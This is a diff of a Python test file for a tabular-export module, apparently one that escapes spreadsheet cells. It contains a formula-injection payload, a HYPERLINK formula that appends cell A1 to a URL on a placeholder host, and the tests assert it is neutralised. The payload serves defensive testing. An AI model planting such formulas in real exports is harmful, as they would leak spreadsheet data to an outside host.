@@ -2,21 +2,19 @@
 
 import datetime as dt
 import io
-from pathlib import Path
 from typing import Any
 
 import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
+from helpers import BRICKS
 
-from tpt_model import Catalogue, load_catalogue
+from tpt_model import Catalogue
 from tpt_model.evaluation import REFERENCE_EVALUATOR, evaluate
 from tpt_model.score_store import ScoreSheet
 from tpt_model.tabular_export import aggregate_frame, evaluation_frame, safe_cell, to_csv_bytes, to_xlsx_bytes
 
-TEST_CATALOGUE = Path(__file__).resolve().parents[1] / "data" / "catalogue"
-BRICKS = ["atelier-classe", "mentorat", "ordinateur"]
 HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")'
 BOM = b"\xef\xbb\xbf"
 
@@ -123,11 +121,6 @@ def test_csv_starts_with_the_bom_and_keeps_accents() -> None:
     assert lines[1] == '"\'=HYPERLINK(""http://exemple.invalid/?d=""&A1,""Cliquez"")";3;2,5;\'+1;oui'
     assert lines[2] == "Atelier d'été;-2;;CollédepuisWord;non"
     assert lines[3] == "'@SUM(A1);4;3,25;;oui"
-
-
-@pytest.fixture(scope="module")
-def catalogue() -> Catalogue:
-    return load_catalogue(TEST_CATALOGUE)
 
 
 def test_evaluation_frame_rows_and_columns(catalogue: Catalogue) -> None:
